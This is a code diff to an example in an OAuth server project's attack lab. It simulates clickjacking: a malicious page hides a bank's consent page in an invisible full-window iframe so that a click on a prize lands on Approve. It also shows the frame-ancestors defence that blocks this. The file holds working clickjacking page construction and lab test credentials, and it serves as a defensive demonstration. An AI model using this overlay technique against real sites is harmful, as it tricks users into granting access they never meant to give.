@@ -2,7 +2,8 @@
 
 Mallory Ltd is a registered client, and has begun a request. Alice is signed in at her bank, and opens a page of
 Mallory's that promises a prize. The consent page of her bank lies over it in a frame, invisible, so that its button is
-just where she clicks. She has approved, and never knew.
+just where she clicks. She has approved, and never knew. Mallory's page is on the bank's own site, such as a page of an
+old campaign: into frames on other sites browsers send no cookies any more, unless a bank asks for it.
 
 The bank stops this. Its pages say that no page may frame them (`frame-ancestors`, and `X-Frame-Options` for old
 browsers), and the browser shows nothing in the frame. Chromium is asked here.
@@ -19,16 +20,16 @@ from starlette.responses import HTMLResponse, Response
 from askit.server import AuthorizationServer
 from examples.attack_lab.answers import NothingCame
 from examples.attack_lab.attack import Attack
+from examples.attack_lab.chromium import Tab
 from examples.attack_lab.ecosystem import MALLORY_LTD
 from examples.attack_lab.lab import Lab
-from examples.attack_lab.mallory import MallorysSite, Seen
 from examples.attack_lab.naive.bank import NaiveBank
 from examples.attack_lab.naive.client import NaiveClient
 from examples.attack_lab.story import Party, Story
 
 LOOT = "an authorization code that Alice never meant to give"
 ALICE, BANK, MALLORY = Party.ALICE, Party.BANK, Party.MALLORY
-APPROVE = "document.querySelector('[value=approve]').getBoundingClientRect()"
+APPROVE = "[value=approve]"
 calling = AuthorizationServer.__call__
 
 
@@ -59,54 +60,38 @@ class FramedBank(NaiveBank):
         return HTMLResponse(f'<form>{fields}<button name="decision" value="approve">Approve</button></form>')
 
 
-class PrizePage(MallorysSite):
-    """`page` is what Alice sees, and what she does not see."""
-
-    page = ""
-
-    def answer(self, _seen: Seen) -> Response:
-        return HTMLResponse(self.page)
-
-
 def undefended(lab: Lab, story: Story) -> str:
     bank = lab.naive_bank(FramedBank)
     client = NaiveClient(lab.http, f"{lab.mallory_ltd_site}/callback", client_id=MALLORY_LTD)
     client.choose(bank.issuer)
-    return _frame(lab, story, client.begin())
+    return _frame(lab, story, lab.chromium(), client.begin())
 
 
 def defended(lab: Lab, story: Story) -> str:
     world = lab.under("fapi2-security")
     url = world.mallorys_client().begin(scope="accounts", resources=[world.accounts]).url
-    tab = lab.chromium
+    tab = lab.chromium()
     tab.open(f"{world.bank.issuer}/grants")
-    if tab.run("document.querySelector('[name=password]') !== null"):
-        tab.run("document.querySelector('[name=username]').value = 'alice'")
-        tab.run("document.querySelector('[name=password]').value = 'wonderland'")
-        tab.run("document.forms[0].submit()")
-        tab.wait_for("document.readyState === 'complete' && !document.querySelector('[name=password]')")
-    return _frame(lab, story, url)
+    tab.submit({"username": "alice", "password": "wonderland"})
+    return _frame(lab, story, tab, url)
 
 
-def _frame(lab: Lab, story: Story, url: str) -> str:
-    tab, prize = lab.chromium, PrizePage()
-    origin = lab.serve(prize)
+def _frame(lab: Lab, story: Story, tab: Tab, url: str) -> str:
+    prize, origin = lab.mallorys_site()
     tab.open(url)  # as Mallory has done at home: where is the button?
-    x, y = tab.run(f"[{APPROVE}.x + 5, {APPROVE}.y + 5]")
+    x, y = tab.middle_of(APPROVE)
     style = "position:fixed; inset:0; width:100%; height:100%; border:0; opacity:0"
     frame = f'<iframe src="{escape(url)}" style="{style}">'
-    prize.page = f'<style>body {{ margin: 0 }}</style><p style="margin: {y}px {x}px">Win!</p>{frame}</iframe>'
+    prize.page = HTMLResponse(f'<p style="margin: {y}px {x}px">Win!</p>{frame}</iframe>')
     story.step(
         ALICE, MALLORY, "GET a page that promises a prize", "She is signed in at her bank, as every morning."
     )
     story.step(ALICE, BANK, "GET /authorize, in an invisible frame", "Her browser sends her cookies along.")
     tab.open(f"{origin}/prize")
-    if url.split("?", maxsplit=1)[0] not in "".join(tab.frames()):
-        raise NothingCame("the browser shows no page of the bank in the frame", clause="RFC 9700 4.16")
+    if not any(shown.startswith(url.partition("?")[0]) for shown in tab.frames):
+        raise NothingCame(" ".join(tab.complaints), clause="RFC 9700 4.16")
     story.step(ALICE, BANK, "a click on the prize", "It is a click on the button that approves.")
-    before = len(lab.mallory_ltd.seen)
-    tab.click(x, y)
-    tab.wait_until(lambda: len(lab.mallory_ltd.seen) > before)
+    tab.click(x, y, awaiting=f"{lab.mallory_ltd_site}/callback")
     story.step(BANK, MALLORY, "the code, by her browser", "She has approved.")
     assert lab.mallory_ltd.last("/callback").query["code"]
     return LOOT
